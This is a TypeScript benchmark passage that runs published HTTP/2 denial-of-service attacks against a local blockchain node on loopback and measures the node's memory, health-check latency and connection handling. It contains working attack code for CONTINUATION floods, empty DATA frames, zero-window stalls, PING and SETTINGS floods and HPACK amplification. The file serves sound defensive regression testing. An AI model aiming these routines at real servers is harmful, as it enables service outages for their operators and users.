/**
 * The published HTTP/2 attacks (and one HTTP/1.1 one), each at full size
 * against a real `bcn` node on loopback, measured the same way so that a
 * run before and a run after a fix can be compared row by row:
 *
 *   deno task bench:attack [id ...]      (e.g. `deno task bench:attack 1 9b`)
 *
 * Each attack gets a fresh bootstrap authority (`bcn node start
 * --bootstrap --period 1s`, a real process) on a prepared chain of
 * {@link CHAIN_BLOCKS} blocks of {@link CHAIN_TXS} transfers, so BlockSync
 * streams have something to send. While the attack runs (and for a second
 * after, while the node works through what it was sent):
 *
 * - the node's VmRSS is sampled every 100 ms (before, and the peak during);
 * - a prober at 127.0.0.2 asks `GET /healthz` over a fresh HTTP/1.1
 *   connection every 100 ms, each with a 2 s timeout (count, failures,
 *   p50/p99/max latency; a failure counts with the time it took);
 * - the attacker's connections (from 127.0.0.3 and up) record how the node
 *   ended them: a GOAWAY and its code, RST_STREAM codes, a plain close,
 *   an HTTP/1.1 503 refusal, or still open at the end.
 *
 * The attacks (ids as in the issue): 1 CONTINUATION flood with empty
 * fragments and 2 with 1-byte ones (up to 170 MB or 15 s); 3 160,000 empty
 * DATA frames on a BlockReceive stream, then how long `/healthz` takes;
 * 4 zero-window stall (384 connections from 6 addresses, 100 BlockSync
 * streams each, SETTINGS_INITIAL_WINDOW_SIZE 0 and no WINDOW_UPDATE);
 * 5 PING and 6 SETTINGS floods beside an open BlockSync stream (20 s, as
 * fast as the ACKs are read); 7 HPACK amplification (one ~4 KB dynamic
 * table entry, then 6,000 streams of 19-byte blocks decoding to ~59 KB,
 * kept open); 8 Huffman-coded header flood (15 s); 9 rapid reset on one
 * connection and 9b reconnecting every 190 resets (15 s); 10 refused
 * streams (10 s); 11 HTTP/1.1 slow body (200 connections, 20 s).
 *
 * And those of a security review (at the sizes it used): 12 held request
 * bodies (100 unary GenesisSync calls from one address, each a prefix
 * announcing 16 MiB and 15 MiB of body within the node's windows, never
 * ended, held 15 s; how many ended grpc-status 8) and 12b the same from 4
 * addresses, 25 each; 13 held streams (100 + 100 + 56 streams without
 * END_STREAM from 3 addresses for 15 s, while a victim at 127.0.0.1 calls
 * GenesisSync every 200 ms: its calls answered, and any GOAWAY to it);
 * 14 trailers flood (16 KiB Huffman-coded header blocks as trailers, 10 s);
 * 15 SETTINGS amplification (100 held streams, then up to 990 SETTINGS
 * frames of 2,730 INITIAL_WINDOW_SIZE entries); 16 slow reader (BlockSync
 * with windows of 2^31-1, read at ~1 MB/s: whether all of it arrives).
 *
 * It prints one table row per attack with a pass/fail against the targets
 * printed below the table. Set `BCN_MAIN` to another checkout's
 * `src/main.ts` to attack that version; the node may read only this
 * checkout's `src/` and `.tmp/`, so put an older tree under `.tmp/`
 * (`git archive COMMIT | tar -x -C .tmp/before`). `BCN_ATTACK_RSS_CAP_MB`
 * (default 2048) stops an attack early once the node's RSS passes it, so a
 * node without bounds does not take the machine's memory. Loopback only; every
 * attack is bounded in count and time (at most about 20 s) and stops by
 * itself; every socket and process it starts is closed before it exits.
 *
 * @module
 */
import * as net from "node:net";
import { join } from "node:path";
import { encodeSigBlock } from "../src/chain/block.ts";
import { makeChain } from "../tests/fixtures.ts";
import { BLOCKS_FILE, BlockStore } from "../src/store/block_store.ts";
import { writeKey } from "../src/store/key_store.ts";
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  Frame,
  frame,
  FrameReader,
  type H2Frame,
  MAX_FRAME_SIZE,
  PREFACE,
  PRIORITY,
  readSettings,
  readU31,
  readU32,
  SETTINGS_INITIAL_WINDOW_SIZE,
  settingsPayload,
  u32,
  unpad,
} from "../src/http/h2_frames.ts";
import {
  encodeHeaderBlock,
  encodeInteger,
  HpackDecoder,
  huffmanDecode,
} from "../src/http/hpack.ts";
import {
  type BcnProcess,
  freePort,
  startBcn,
  withTempDir,
} from "../tests/e2e/helpers.ts";
import { canBind } from "../tests/rpc/harness.ts";
import { concatBytes } from "../src/util/bytes.ts";

/** The prepared chain: blocks, and transfers in each. */
const CHAIN_BLOCKS = 100;
/** See {@link CHAIN_BLOCKS}. */
const CHAIN_TXS = 10;
const PASS = "bench password";
const PROBE_ADDRESS = "127.0.0.2";
const PROBE_EVERY_MS = 100;
const PROBE_TIMEOUT_MS = 2000;
const SAMPLE_EVERY_MS = 100;
const RSS_CAP_MB = Number(Deno.env.get("BCN_ATTACK_RSS_CAP_MB") ?? 2048);
/** How long the probes and samples go on after an attack has ended. */
const PROBE_TAIL_MS = 1000;
/** How long after an attack stops sending the node may still close it. */
const CLOSE_GRACE_MS = 2000;

// The targets each row is marked against.
const TARGET_GROWTH_MB = 150;
const TARGET_P99_MS = 250;
const TARGET_HEALTHZ_AFTER_MS = 1000;

/** The name the prober worker runs under (this same module). */
const PROBER = "bcn-attack-prober";

const enc = new TextEncoder();
const dec = new TextDecoder();

// ---------------------------------------------------------------------------
// Sizes and probes, shared by the main thread and the prober worker.

/** The VmRSS of `pid` in MB, or undefined once it is gone. */
function rssMb(pid: number): number | undefined {
  try {
    const status = Deno.readTextFileSync(`/proc/${pid}/status`);
    const m = /VmRSS:\s+(\d+) kB/.exec(status);
    return m ? Number(m[1]) / 1024 : undefined;
  } catch {
    return undefined;
  }
}

/** One `GET /healthz`: answered or not, in how long, and what came. */
interface ProbeResult {
  ok: boolean;
  ms: number;
  what: string;
}

/**
 * `GET /healthz` over a fresh HTTP/1.1 connection from `localAddress`.
 * Answered means the health route answered, 200 or its 503 (a lone node
 * has no peers); the listener's own 503 (connection refused) is a failure.
 */
function probe(port: number, localAddress?: string): Promise<ProbeResult> {
  return new Promise((resolve) => {
    const t0 = performance.now();
    let got = "";
    let done = false;
    const s = net.connect({ host: "127.0.0.1", port, localAddress });
    const finish = (ok: boolean, what: string) => {
      if (done) return;
      done = true;
      clearTimeout(timer);
      s.destroy();
      resolve({ ok, ms: performance.now() - t0, what });
    };
    const timer = setTimeout(() => finish(false, "timeout"), PROBE_TIMEOUT_MS);
    // A whole answer: its head and Content-Length bytes of body.
    const check = () => {
      const end = got.indexOf("\r\n\r\n");
      if (end < 0) return;
      const head = got.slice(0, end);
      const length = /\r\ncontent-length:\s*(\d+)/i.exec(head);
      if (length && got.length - end - 4 < Number(length[1])) return;
      const status = head.slice(9, 12);
      const health = /\r\ncontent-type:\s*text\/plain/i.test(head);
      if (status === "200") finish(true, "200");
      else if (status === "503" && health) finish(true, "503 health");
      else finish(false, status === "503" ? "refused 503" : `HTTP ${status}`);
    };
    s.on("connect", () => {
      s.write(
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n",
      );
    });
    s.on("data", (chunk: Uint8Array) => {
      got += dec.decode(chunk);
      check();
    });
    s.on("error", (e: Error & { code?: string }) => {
      finish(false, e.code ?? "error");
    });
    s.on("close", () => finish(false, got ? "cut short" : "closed"));
  });
}

// ---------------------------------------------------------------------------
// The prober worker: this module again, on its own thread, so that a busy
// attacker loop does not delay the probes or the samples.

interface ProberStart {
  type: "start";
  port: number;
  pid: number;
  localAddress?: string;
}

interface ProberReport {
  type: "stopped";
  results: ProbeResult[];
  peakMb: number;
}

function proberMain(): void {
  const scope = globalThis as unknown as {
    onmessage: ((e: MessageEvent) => void) | null;
    postMessage(m: unknown): void;
  };
  let probing: ReturnType<typeof setInterval> | undefined;
  let sampling: ReturnType<typeof setInterval> | undefined;
  let probes: Promise<ProbeResult>[] = [];
  let peakMb = 0;
  scope.onmessage = async (e) => {
    const m = e.data as ProberStart | { type: "stop" };
    if (m.type === "start") {
      probes = [];
      peakMb = rssMb(m.pid) ?? 0;
      probes.push(probe(m.port, m.localAddress));
      probing = setInterval(
        () => probes.push(probe(m.port, m.localAddress)),
        PROBE_EVERY_MS,
      );
      sampling = setInterval(() => {
        peakMb = Math.max(peakMb, rssMb(m.pid) ?? 0);
      }, SAMPLE_EVERY_MS);
    } else {
      clearInterval(probing);
      clearInterval(sampling);
      const results = await Promise.all(probes);
      scope.postMessage({ type: "stopped", results, peakMb } as ProberReport);
    }
  };
}

/** The main thread's handle on the prober worker. */
class Prober {
  readonly #worker = new Worker(import.meta.url, {
    type: "module",
    name: PROBER,
  });
  #report: ((r: ProberReport) => void) | undefined;

  constructor() {
    this.#worker.onmessage = (e) => this.#report?.(e.data as ProberReport);
  }

  start(port: number, pid: number, localAddress?: string): void {
    this.#worker.postMessage({ type: "start", port, pid, localAddress });
  }

  stop(): Promise<ProberReport> {
    return new Promise((resolve) => {
      this.#report = resolve;
      this.#worker.postMessage({ type: "stop" });
    });
  }

  terminate(): void {
    this.#worker.terminate();
  }
}

// ---------------------------------------------------------------------------
// HPACK pieces the project's encoder does not write: literals with
// incremental indexing, indexed fields and Huffman-coded strings.

// RFC 7541 Appendix B is a canonical Huffman code, so each symbol's code
// length (0-255, then EOS) defines it: "A" is 5 bits up to "Z" 30 bits,
// the same table as `src/http/hpack.ts`'s decoder.
const HUFFMAN_LENGTHS =
  "ISXXXXXXXTZXXZXXXXXXXXZXXXXXXXXXBFFHIBDGFFDGDBBBAAABBBBBBBCDKBHFIBCCCCCC" +
  "CCCCCCCCCCCCCCCCDCDIOIJBKABABABBBACCBBBABCBAABCCCCCKGJIXPRPPRRRSRSSSSSTST" +
  "TRSTSSSSQRSRSSTRQPRRSSQSRRTQRSSQQRQSRSSPRRRSRRSVVPORSRUVVVWWVTUOQVWWVWTQQV" +
  "VXWWWPTPQRQQSRRUUTTVSVWVVWWWWWXWWWWWVZ";

const HUFFMAN = (() => {
  const lengths = Array.from(HUFFMAN_LENGTHS, (c) => c.charCodeAt(0) - 60);
  const order = lengths.map((_, s) => s)
    .sort((a, b) => lengths[a] - lengths[b] || a - b);
  const codes = new Array<number>(lengths.length);
  let code = 0;
  let length = lengths[order[0]];
  for (const s of order) {
    code *= 2 ** (lengths[s] - length);
    length = lengths[s];
    codes[s] = code++;
  }
  return { codes, lengths };
})();

/** Huffman-codes `bytes` (RFC 7541 §5.2), padded with ones. */
function huffmanEncode(bytes: Uint8Array): Uint8Array {
  const out: number[] = [];
  // At most 7 + 30 bits pending: exact in a double.
  let acc = 0;
  let bits = 0;
  for (const b of bytes) {
    acc = acc * 2 ** HUFFMAN.lengths[b] + HUFFMAN.codes[b];
    bits += HUFFMAN.lengths[b];
    while (bits >= 8) {
      bits -= 8;
      const div = 2 ** bits;
      out.push(Math.floor(acc / div));
      acc %= div;
    }
  }
  if (bits > 0) out.push(acc * 2 ** (8 - bits) + 2 ** (8 - bits) - 1);
  return Uint8Array.from(out);
}

/** Checks the encoder against RFC 7541 C.4.1 and the project's decoder. */
function checkHuffman(): void {
  const hex = Array.from(huffmanEncode(enc.encode("www.example.com")))
    .map((b) => b.toString(16).padStart(2, "0")).join("");
  const all = Uint8Array.from({ length: 256 }, (_, i) => i);
  const back = huffmanDecode(huffmanEncode(all));
  if (
    hex !== "f1e3c2e5f23a6ba0ab90f4ff" ||
    back.length !== 256 || back.some((b, i) => b !== i)
  ) {
    throw new Error("bench:attack: the Huffman encoder is wrong");
  }
}

/** An HPACK string, raw or Huffman-coded. */
function hpackString(out: number[], s: string, huffman = false): void {
  const bytes = huffman ? huffmanEncode(enc.encode(s)) : enc.encode(s);
  encodeInteger(out, bytes.length, 7, huffman ? 0x80 : 0);
  for (const b of bytes) out.push(b);
}

/**
 * A literal with incremental indexing (0x40): the field goes into the
 * decoder's dynamic table. `name` is a static table index or a new name.
 */
function literalIndexed(out: number[], name: number | string, value: string) {
  if (typeof name === "number") encodeInteger(out, name, 6, 0x40);
  else {
    out.push(0x40);
    hpackString(out, name);
  }
  hpackString(out, value);
}

/** An indexed field (0x80 | index); 62 is the newest dynamic entry. */
function indexed(out: number[], index: number): void {
  encodeInteger(out, index, 7, 0x80);
}

// ---------------------------------------------------------------------------
// Requests and the attacker's connections.

/** A gRPC request's header block, literals without indexing. */
function grpcBlock(path: string): Uint8Array {
  return encodeHeaderBlock([
    [":method", "POST"],
    [":scheme", "http"],
    [":authority", "127.0.0.1"],
    [":path", path],
    ["content-type", "application/grpc"],
    ["te", "trailers"],
  ]);
}

/** A gRPC BlockSyncReq with Number = 1 (field 1, varint 1). */
const SYNC_FROM_1 = Uint8Array.of(0, 0, 0, 0, 2, 8, 1);

/** `one` `n` times, one byte string. */
function repeat(one: Uint8Array, n: number): Uint8Array {
  const out = new Uint8Array(one.length * n);
  for (let i = 0; i < n; i++) out.set(one, i * one.length);
  return out;
}

/** What an attack run may ask of the bench. */
interface Ctx {
  port: number;
  /** Source address `i` of the attacker (127.0.0.3 and up). */
  addr(i: number): string;
  /** Where the prober's address is (undefined: it cannot be bound). */
  probeAddress: string | undefined;
  /** True once the attack must stop: the node died or passed the cap. */
  stopped(): boolean;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** The node under attack now, stopped on Ctrl-C too. */
let node: BcnProcess | undefined;

/** Every attacker socket of the current attack, destroyed after it. */
const sockets = new Set<net.Socket>();

function destroyAll(): void {
  for (const s of sockets) s.destroy();
  sockets.clear();
}

/** Options of an {@link H2Conn} beyond its SETTINGS. */
interface H2ConnOptions {
  /**
   * Follows its streams: decodes the node's header blocks (their
   * grpc-status), notes the streams the node ended and the send windows it
   * grants (see {@link H2Conn.room}), and hands DATA to `onData`.
   */
  track?: boolean;
  /**
   * Gives the node's DATA back at once with WINDOW_UPDATEs, as a client
   * that reads its responses does (tracked connections only).
   */
  giveBack?: boolean;
}

/**
 * An HTTP/2 client connection that writes what it is given and reads and
 * records what the node answers: it acknowledges the node's SETTINGS (as a
 * client must), counts PING and SETTINGS ACKs and streams the node ended,
 * and keeps the GOAWAY code and RST_STREAM codes. A tracked one (see
 * {@link H2ConnOptions}) also follows each stream and the windows.
 */
class H2Conn {
  readonly socket: net.Socket;
  /** Connected, or failed/closed first. */
  readonly ready: Promise<boolean>;
  bytes = 0;
  frames = 0;
  connected = false;
  closed = false;
  byUs = false;
  connectError: string | undefined;
  goaway: number | undefined;
  /** The status line when the node answered in HTTP/1.1 (a refusal). */
  http1: string | undefined;
  readonly rst = new Map<number, number>();
  headersIn = 0;
  streamsEnded = 0;
  pingAcks = 0;
  settingsAcks = 0;
  /** SETTINGS frames from the node (each acknowledged at once). */
  nodeSettings = 0;
  /** When the GOAWAY came (`Date.now()`). */
  goawayAt: number | undefined;
  // Tracked connections only:
  /** Streams the node ended (END_STREAM or RST_STREAM). */
  readonly ended = new Set<number>();
  /** The grpc-status the node sent on a stream, if any. */
  readonly grpcStatus = new Map<number, string>();
  /** The grpc-message the node sent on a stream, if any (decoded). */
  readonly grpcMessage = new Map<number, string>();
  /** DATA payload bytes from the node. */
  dataIn = 0;
  /** WINDOW_UPDATE frames from the node. */
  windowUpdates = 0;
  /** Told of each DATA frame's payload from the node. */
  onData: ((stream: number, payload: Uint8Array) => void) | undefined;
  readonly #reader = new FrameReader();
  readonly #track: boolean;
  readonly #giveBack: boolean;
  readonly #hpack = new HpackDecoder();
  /** A header block from the node still waiting for its CONTINUATIONs. */
  #block: { stream: number; parts: Uint8Array[] } | undefined;
  /** The node's SETTINGS_INITIAL_WINDOW_SIZE, and what we may send. */
  #sendInitial = 65_535;
  #connSend = 65_535;
  /** Per stream: WINDOW_UPDATEs less what we sent. */
  readonly #streamSend = new Map<number, number>();
  #first = true;
  #parse = true;
  readonly #waiters = new Set<() => void>();
  #quickWrites = 0;

  constructor(
    port: number,
    localAddress: string,
    settings: [number, number][] = [],
    options: H2ConnOptions = {},
  ) {
    this.#track = options.track ?? false;
    this.#giveBack = options.giveBack ?? false;
    const s = net.connect({ host: "127.0.0.1", port, localAddress });
    this.socket = s;
    sockets.add(s);
    this.ready = new Promise((resolve) => {
      s.once("connect", () => {
        this.connected = true;
        resolve(true);
      });
      s.once("close", () => resolve(false));
    });
    s.on("data", (chunk: Uint8Array) => this.#onData(chunk));
    s.on("error", (e: Error & { code?: string }) => {
      if (!this.connected) this.connectError = e.code ?? e.message;
    });
    s.on("close", () => {
      sockets.delete(s);
      this.closed = true;
      this.#wake();
    });
    // Queued until the connection is made.
    void this.send(
      concatBytes([
        PREFACE,
        frame(Frame.Settings, 0, 0, settingsPayload(settings)),
      ]),
      1,
    );
  }

  /** Closed by the node (or refused), not by us. */
  get closedByNode(): boolean {
    return this.closed && !this.byUs;
  }

  /**
   * Writes `bytes` (`frames` frames); waits while the socket's buffer is
   * full. False once the connection is closed.
   */
  async send(bytes: Uint8Array, frames: number): Promise<boolean> {
    if (this.closed || this.socket.destroyed) return false;
    this.bytes += bytes.length;
    this.frames += frames;
    if (this.socket.write(bytes)) {
      // Let timers and reads run now and then even if writes never block.
      if (++this.#quickWrites % 64 === 0) await sleep(0);
      return true;
    }
    await new Promise<void>((resolve) => {
      const done = () => {
        this.socket.off("drain", done);
        this.socket.off("close", done);
        resolve();
      };
      this.socket.on("drain", done);
      this.socket.on("close", done);
    });
    return !this.closed;
  }

  /** Waits until `cond()`, the close, `deadline` or the bench's stop. */
  async until(cond: () => boolean, deadline: number, ctx: Ctx): Promise<void> {
    while (
      !cond() && !this.closed && Date.now() < deadline && !ctx.stopped()
    ) {
      await new Promise<void>((resolve) => {
        const timer = setTimeout(done, 50);
        function done() {
          clearTimeout(timer);
          resolve();
        }
        this.#waiters.add(done);
      });
    }
  }

  /**
   * Waits for the node's first SETTINGS: our ACK of it goes out at once,
   * and must not land inside a header block (HEADERS and CONTINUATIONs)
   * that the attack sends after, where it is a protocol error.
   */
  async handshake(ctx: Ctx): Promise<void> {
    await this.until(() => this.nodeSettings > 0, Date.now() + 2000, ctx);
  }

  /**
   * What stream `id` may send now within the node's windows (tracked
   * connections).
   */
  room(id: number): number {
    return Math.min(
      this.#connSend,
      this.#sendInitial + (this.#streamSend.get(id) ?? 0),
    );
  }

  /** A DATA frame of `bytes` on stream `id`, taken from the windows. */
  dataFrame(id: number, bytes: Uint8Array, end = false): Uint8Array {
    this.#connSend -= bytes.length;
    this.#streamSend.set(id, (this.#streamSend.get(id) ?? 0) - bytes.length);
    return frame(Frame.Data, end ? END_STREAM : 0, id, bytes);
  }

  /** Closes from our side (the end of the attack). */
  close(): void {
    if (!this.closed) this.byUs = true;
    this.socket.destroy();
  }

  #onData(chunk: Uint8Array): void {
    if (this.#first) {
      this.#first = false;
      if (chunk.length >= 5 && dec.decode(chunk.subarray(0, 5)) === "HTTP/") {
        const text = dec.decode(chunk.subarray(0, 512));
        const why = /"message":"([^"]*)"/.exec(text)?.[1];
        this.http1 = text.split("\r\n")[0].replace(" Service Unavailable", "") +
          (why ? ` (${why})` : "");
        this.#parse = false;
      }
    }
    if (!this.#parse) return;
    try {
      this.#reader.push(chunk);
      for (let f = this.#reader.next(); f; f = this.#reader.next()) {
        this.#onFrame(f);
      }
    } catch {
      this.#parse = false;
    }
    this.#wake();
  }

  #onFrame(f: H2Frame): void {
    switch (f.type) {
      case Frame.Settings:
        if (f.flags & ACK) this.settingsAcks++;
        else {
          this.nodeSettings++;
          if (this.#track) {
            for (const [id, value] of readSettings(f.payload)) {
              if (id === SETTINGS_INITIAL_WINDOW_SIZE) {
                this.#sendInitial = value;
              }
            }
          }
          void this.send(frame(Frame.Settings, ACK, 0), 1);
        }
        return;
      case Frame.Ping:
        if (f.flags & ACK) this.pingAcks++;
        return;
      case Frame.Goaway:
        if (f.payload.length >= 8) this.goaway = readU32(f.payload, 4);
        this.goawayAt ??= Date.now();
        return;
      case Frame.RstStream: {
        const code = f.payload.length === 4 ? readU32(f.payload) : -1;
        this.rst.set(code, (this.rst.get(code) ?? 0) + 1);
        this.streamsEnded++;
        if (this.#track) this.ended.add(f.stream);
        return;
      }
      case Frame.Headers:
        this.headersIn++;
        if (f.flags & END_STREAM) this.streamsEnded++;
        if (this.#track) {
          if (f.flags & END_STREAM) this.ended.add(f.stream);
          let fragment = unpad(f.flags, f.payload);
          if (f.flags & PRIORITY) fragment = fragment.subarray(5);
          this.#block = { stream: f.stream, parts: [fragment] };
          if (f.flags & END_HEADERS) this.#decodeBlock();
        }
        return;
      case Frame.Continuation:
        if (this.#track && this.#block) {
          this.#block.parts.push(f.payload);
          if (f.flags & END_HEADERS) this.#decodeBlock();
        }
        return;
      case Frame.Data:
        if (f.flags & END_STREAM) this.streamsEnded++;
        if (this.#track) {
          if (f.flags & END_STREAM) this.ended.add(f.stream);
          this.dataIn += f.payload.length;
          this.onData?.(f.stream, unpad(f.flags, f.payload));
          const n = f.payload.length;
          if (this.#giveBack && n > 0) {
            const updates = [frame(Frame.WindowUpdate, 0, 0, u32(n))];
            if (!(f.flags & END_STREAM)) {
              updates.push(frame(Frame.WindowUpdate, 0, f.stream, u32(n)));
            }
            void this.send(concatBytes(updates), updates.length);
          }
        }
        return;
      case Frame.WindowUpdate:
        if (this.#track && f.payload.length === 4) {
          const increment = readU31(f.payload);
          if (f.stream === 0) this.#connSend += increment;
          else {
            this.#streamSend.set(
              f.stream,
              (this.#streamSend.get(f.stream) ?? 0) + increment,
            );
          }
          this.windowUpdates++;
        }
        return;
    }
  }

  /** Decodes a whole header block of the node's and keeps its grpc-status. */
  #decodeBlock(): void {
    const block = this.#block!;
    this.#block = undefined;
    try {
      const fields = this.#hpack.decode(concatBytes(block.parts));
      const status = fields.find(([name]) => name === "grpc-status");
      if (status) this.grpcStatus.set(block.stream, status[1]);
      const message = fields.find(([name]) => name === "grpc-message");
      if (message) {
        let text = message[1];
        try {
          text = decodeURIComponent(text);
        } catch {
          // kept as sent
        }
        this.grpcMessage.set(block.stream, text);
      }
    } catch {
      // not a block this client can read: no status kept
    }
  }

  #wake(): void {
    const all = [...this.#waiters];
    this.#waiters.clear();
    for (const w of all) w();
  }
}

const H2_ERRORS: Record<number, string> = {
  0: "NO_ERROR",
  1: "PROTOCOL_ERROR",
  2: "INTERNAL_ERROR",
  3: "FLOW_CONTROL_ERROR",
  6: "FRAME_SIZE_ERROR",
  7: "REFUSED_STREAM",
  8: "CANCEL",
  9: "COMPRESSION_ERROR",
  11: "ENHANCE_YOUR_CALM",
};

const errorName = (code: number) => H2_ERRORS[code] ?? `0x${code.toString(16)}`;

/** `{key: count}` as "key ×count, ...", most first. */
function counts(m: Map<string, number>): string {
  return [...m].sort((a, b) => b[1] - a[1])
    .map(([k, n]) => `${k} ×${n}`).join(", ");
}

function bump(m: Map<string, number>, key: string, n = 1): void {
  m.set(key, (m.get(key) ?? 0) + n);
}

/** How the node ended `conns`, and whether it ended them all. */
function howClosed(conns: H2Conn[]): { all: boolean; how: string } {
  const ways = new Map<string, number>();
  const open = new Map<string, number>();
  const rst = new Map<string, number>();
  let ended = 0;
  for (const c of conns) {
    for (const [code, n] of c.rst) bump(rst, errorName(code), n);
    if (!c.connected && c.connectError) {
      bump(ways, `connect ${c.connectError}`);
      ended++;
    } else if (c.closedByNode) {
      ended++;
      bump(
        ways,
        c.http1 ??
          (c.goaway === undefined
            ? "plain close"
            : `GOAWAY ${errorName(c.goaway)}`),
      );
    } else {
      bump(
        open,
        c.goaway === undefined
          ? "open"
          : `open after GOAWAY ${errorName(c.goaway)}`,
      );
    }
  }
  const one = (m: Map<string, number>) => counts(m).replace(/ ×1$/, "");
  let how: string;
  if (conns.length === 1) {
    how = ended === 1 ? `yes: ${one(ways)}` : `no: ${one(open)} at the end`;
  } else {
    how = `${ended}/${conns.length}`;
    if (ways.size > 0) how += `: ${counts(ways)}`;
    if (open.size > 0) how += `; ${counts(open)} at the end`;
  }
  if (rst.size > 0) how += `; RST ${counts(rst)}`;
  return { all: ended === conns.length, how };
}

/** What one attack did. */
interface Outcome {
  frames: number;
  bytes: number;
  seconds: number;
  closed: boolean;
  how: string;
  notes: string[];
  /** Targets of its own this attack missed (e.g. /healthz after it). */
  misses?: string[];
  /**
   * The "attacker closed" target does not apply (a client the node should
   * serve to the end); the attack's own targets stand in for it.
   */
  noCloseTarget?: boolean;
}

function totals(conns: H2Conn[]): { frames: number; bytes: number } {
  let frames = 0;
  let bytes = 0;
  for (const c of conns) {
    frames += c.frames;
    bytes += c.bytes;
  }
  return { frames, bytes };
}

/** An outcome of `conns`, after the close grace. */
async function outcomeOf(
  conns: H2Conn[],
  t0: number,
  ctx: Ctx,
  notes: string[] = [],
): Promise<Outcome> {
  const seconds = (Date.now() - t0) / 1000;
  const graceEnd = Date.now() + CLOSE_GRACE_MS;
  while (
    Date.now() < graceEnd && !ctx.stopped() && conns.some((c) => !c.closed)
  ) await sleep(50);
  const { all, how } = howClosed(conns);
  return { ...totals(conns), seconds, closed: all, how, notes };
}

/** Waits until `deadline`, every connection closed, or the stop. */
async function hold(conns: H2Conn[], deadline: number, ctx: Ctx) {
  while (
    Date.now() < deadline && !ctx.stopped() && conns.some((c) => !c.closed)
  ) await sleep(100);
}

/** Opens `n` connections per address over `addresses` addresses, paced. */
async function openMany(
  ctx: Ctx,
  addresses: number,
  n: number,
  settings: [number, number][],
  payload: (c: H2Conn) => void,
): Promise<H2Conn[]> {
  const conns: H2Conn[] = [];
  for (let i = 0; i < n; i++) {
    for (let a = 0; a < addresses; a++) {
      const c = new H2Conn(ctx.port, ctx.addr(a), settings);
      payload(c);
      conns.push(c);
    }
    if (i % 16 === 15) await sleep(20);
  }
  return conns;
}

// ---------------------------------------------------------------------------
// The attacks.

interface Attack {
  id: string;
  name: string;
  /** Attacker source addresses it needs. */
  addresses: number;
  run(ctx: Ctx): Promise<Outcome>;
}

/** HEADERS without END_HEADERS, then CONTINUATIONs of `size` bytes. */
function continuationFlood(size: number): Attack["run"] {
  return async (ctx) => {
    const c = new H2Conn(ctx.port, ctx.addr(0));
    await c.ready;
    await c.handshake(ctx);
    const t0 = Date.now();
    await c.send(frame(Frame.Headers, 0, 1, grpcBlock("/Block/BlockSync")), 1);
    const one = frame(Frame.Continuation, 0, 1, new Uint8Array(size));
    const per = Math.floor(64 * 1024 / one.length);
    const chunk = repeat(one, per);
    while (
      c.bytes < 170e6 && Date.now() - t0 < 15_000 && !ctx.stopped() &&
      await c.send(chunk, per)
    );
    return outcomeOf([c], t0, ctx);
  };
}

const emptyData: Attack["run"] = async (ctx) => {
  const c = new H2Conn(ctx.port, ctx.addr(0));
  await c.ready;
  await c.handshake(ctx);
  const t0 = Date.now();
  await c.send(
    frame(Frame.Headers, END_HEADERS, 1, grpcBlock("/Block/BlockReceive")),
    1,
  );
  const one = frame(Frame.Data, 0, 1);
  const per = Math.floor(64 * 1024 / one.length);
  const chunk = repeat(one, per);
  let left = 160_000;
  while (left > 0 && Date.now() - t0 < 20_000 && !ctx.stopped()) {
    const n = Math.min(per, left);
    if (!await c.send(n === per ? chunk : repeat(one, n), n)) break;
    left -= n;
  }
  // How long the node takes to answer once the flood is written.
  const after = await probe(ctx.port, ctx.probeAddress);
  const out = await outcomeOf([c], t0, ctx, [
    `/healthz right after the flood: ${after.ms.toFixed(0)} ms (${after.what})`,
  ]);
  if (!after.ok || after.ms >= TARGET_HEALTHZ_AFTER_MS) {
    out.misses = ["healthz-after"];
  }
  return out;
};

const zeroWindow: Attack["run"] = async (ctx) => {
  const block = grpcBlock("/Block/BlockSync");
  const streams: Uint8Array[] = [];
  for (let i = 0; i < 100; i++) {
    streams.push(frame(Frame.Headers, END_HEADERS, 1 + 2 * i, block));
    streams.push(frame(Frame.Data, END_STREAM, 1 + 2 * i, SYNC_FROM_1));
  }
  const payload = concatBytes(streams);
  const t0 = Date.now();
  const conns = await openMany(
    ctx,
    6,
    64,
    [[SETTINGS_INITIAL_WINDOW_SIZE, 0]],
    (c) => void c.send(payload, 200),
  );
  await hold(conns, t0 + 20_000, ctx);
  const answered = conns.reduce((n, c) => n + c.headersIn, 0);
  return await outcomeOf(conns, t0, ctx, [
    `${conns.length} connections x 100 BlockSync streams, window 0, held ` +
    `up to 20 s: ${answered} response HEADERS came back`,
  ]);
};

/** One open BlockSync stream, then `one` as fast as its ACKs come back. */
function ackFlood(one: Uint8Array, acks: (c: H2Conn) => number): Attack["run"] {
  return async (ctx) => {
    const c = new H2Conn(ctx.port, ctx.addr(0));
    await c.ready;
    await c.handshake(ctx);
    const t0 = Date.now();
    const block = grpcBlock("/Block/BlockSync");
    await c.send(
      concatBytes([
        frame(Frame.Headers, END_HEADERS, 1, block),
        frame(Frame.Data, END_STREAM, 1, SYNC_FROM_1),
      ]),
      2,
    );
    const batch = 500;
    const chunk = repeat(one, batch);
    const start = acks(c);
    let sent = 0;
    const end = t0 + 20_000;
    while (Date.now() < end && !ctx.stopped()) {
      if (!await c.send(chunk, batch)) break;
      sent += batch;
      // At most two batches unanswered.
      await c.until(() => sent - (acks(c) - start) <= batch, end, ctx);
    }
    return outcomeOf([c], t0, ctx, [
      `${sent} sent, ${acks(c) - start} ACKs read`,
    ]);
  };
}

const hpackAmplification: Attack["run"] = async (ctx) => {
  const PAD = 3900;
  // Stream 1 fills the table: :path (64), content-type (63), x-pad (62).
  const first: number[] = [0x83, 0x86];
  literalIndexed(first, 4, "/Block/BlockSync");
  literalIndexed(first, 31, "application/grpc");
  literalIndexed(first, "x-pad", "a".repeat(PAD));
  for (let i = 0; i < 14; i++) indexed(first, 62);
  // Every other stream: 19 bytes that decode to about 60 KB.
  const next: number[] = [0x83, 0x86];
  indexed(next, 64);
  indexed(next, 63);
  for (let i = 0; i < 15; i++) indexed(next, 62);
  const nextBlock = Uint8Array.from(next);
  const frames = [frame(Frame.Headers, END_HEADERS, 1, Uint8Array.from(first))];
  for (let i = 1; i < 100; i++) {
    frames.push(frame(Frame.Headers, END_HEADERS, 1 + 2 * i, nextBlock));
  }
  const payload = concatBytes(frames);
  const t0 = Date.now();
  const conns = await openMany(
    ctx,
    1,
    60,
    [],
    (c) => void c.send(payload, 100),
  );
  await hold(conns, t0 + 20_000, ctx);
  return await outcomeOf(conns, t0, ctx, [
    `60 connections x 100 streams (no END_STREAM), each block ` +
